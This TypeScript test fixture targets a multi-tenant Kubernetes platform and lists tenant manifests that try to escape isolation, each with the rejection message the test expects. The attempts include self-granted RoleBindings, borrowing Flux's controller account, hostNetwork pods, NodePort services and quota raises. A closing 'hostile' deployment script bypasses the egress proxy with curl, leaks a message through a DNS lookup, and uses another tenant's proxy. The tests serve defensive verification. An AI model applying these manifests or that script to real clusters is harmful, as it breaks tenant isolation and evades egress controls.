import { inContainer } from '../../_change';
import { deployment, pod } from './_shop';

/** What a tenant's repository holds beside the shop, or instead, and what Flux reports of it. */
type Attack = readonly [title: string, object: object, reason: RegExp];

const KUSTOMIZE = 'kustomize.toolkit.fluxcd.io/v1';
const RBAC = 'rbac.authorization.k8s.io';

function own(apiVersion: string, kind: string, rest: object): object {
  return { apiVersion, kind, metadata: { name: 'own' }, ...rest };
}

export function forbidden(tenant: string, resource: string, where = `namespace "${tenant}-demo"`): RegExp {
  const account = `system:serviceaccount:${tenant}-demo:${tenant}`;
  return new RegExp(
    `"${account}" cannot patch resource "${resource}" in API group "[a-z.0-9]*" (in the |at the )${where}`,
  );
}

const no = (resource: string, where?: string) => forbidden('client-a', resource, where);
const me = { kind: 'ServiceAccount', name: 'client-a', namespace: 'client-a-demo' };

function kustomizationOf(spec: object): object {
  return own(KUSTOMIZE, 'Kustomization', { spec: { interval: '1m', path: './deploy', prune: true, ...spec } });
}

/** What the account has no right to: with the rights of the platform each of them would be applied. */
export const AGAINST_RIGHTS: readonly Attack[] = [
  [
    'opens its network',
    own('networking.k8s.io/v1', 'NetworkPolicy', { spec: { podSelector: {}, policyTypes: ['Egress'], egress: [{}] } }),
    no('networkpolicies'),
  ],
  [
    'gives itself a role',
    own(`${RBAC}/v1`, 'RoleBinding', {
      roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'view' },
      subjects: [me],
    }),
    no('rolebindings'),
  ],
  [
    'gives itself a role in the cluster',
    own(`${RBAC}/v1`, 'ClusterRoleBinding', {
      roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'view' },
      subjects: [me],
    }),
    no('clusterrolebindings', 'cluster scope'),
  ],
  ['makes an account', own('v1', 'ServiceAccount', {}), no('serviceaccounts')],
  [
    'has Flux apply something with the rights of the platform',
    kustomizationOf({
      sourceRef: { kind: 'GitRepository', name: 'client-a' },
      serviceAccountName: 'kustomize-controller',
    }),
    no('kustomizations'),
  ],
];

/** What more than rights would refuse, or would leave nothing to go on with. */
export const AND_MORE: readonly Attack[] = [
  [
    'takes the marks off its namespace',
    { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'client-a-demo', labels: { tenant: 'client-b' } } },
    no('namespaces'),
  ],
  [
    'takes the repository of the platform for its source',
    kustomizationOf({
      sourceRef: { kind: 'GitRepository', name: 'scaleway-k8s-egres-proxy', namespace: 'flux-system' },
    }),
    no('kustomizations'),
  ],
  [
    'runs in the network of the node',
    own('v1', 'Pod', { spec: pod((spec) => Object.assign(spec, { hostNetwork: true })) }),
    /violates PodSecurity "restricted:.*host namespaces \(hostNetwork=true\)/,
  ],
  [
    'runs on the node of another tenant',
    deployment(pod((spec) => Object.assign(spec, { nodeSelector: { 'node-pool': 'client-b-pool' } }))),
    /tenant client-a: pods run on the tenant’s own nodes\. Set nodeSelector node-pool: client-a-pool/,
  ],
  [
    'runs as the account that applies its repository',
    deployment(pod((spec) => Object.assign(spec, { serviceAccountName: 'client-a' }))),
    /tenant client-a: pods run as the account default/,
  ],
  [
    'runs pods that are told of no proxy',
    deployment(pod(inContainer({ env: undefined }))),
    /tenant client-a: every container needs the tenant’s proxy variables, and these lack them: shop/,
  ],
  [
    'runs pods that are told of the proxy of another tenant',
    deployment(
      pod((spec) => {
        for (const variable of spec.containers[0].env) variable.value = 'http://172.16.28.9:3128';
      }),
    ),
    /tenant client-a: every container needs the tenant’s proxy variables, and these lack them: shop/,
  ],
  [
    'opens a port of every node',
    own('v1', 'Service', { spec: { type: 'NodePort', ports: [{ port: 80 }] } }),
    /tenant client-a: services must be of type ClusterIP, not NodePort/,
  ],
  [
    'says itself where a service leads',
    own('discovery.k8s.io/v1', 'EndpointSlice', { addressType: 'IPv4', endpoints: [], ports: [] }),
    no('endpointslices'),
  ],
  [
    'raises its quota',
    {
      apiVersion: 'v1',
      kind: 'ResourceQuota',
      metadata: { name: 'tenant-quota' },
      spec: { hard: { pods: '999' } },
    },
    no('resourcequotas'),
  ],
  [
    'asks for more than its quota',
    own('v1', 'Pod', {
      spec: pod((spec) => {
        const all = { cpu: '100', memory: '1Mi' };
        spec.containers[0].resources = { requests: all, limits: all };
      }),
    }),
    /exceeded quota: tenant-quota/,
  ],
];

/** A program of which the manifests say nothing wrong: it leaves its proxy aside, hides a message in a name, asks another's proxy. */
export function hostile(web: string, dns: string): object {
  const script = `curl -s --noproxy '*' --max-time 2 http://${web}/hostile
timeout 2 nslookup -type=a message.hostile.example ${dns}
curl -s --noproxy '' --max-time 2 --proxy http://172.16.28.9:3128 http://ifconfig.me/hostile
echo tried; sleep 3600`;
  return deployment(pod(inContainer({ command: ['sh', '-c', script] })));
}
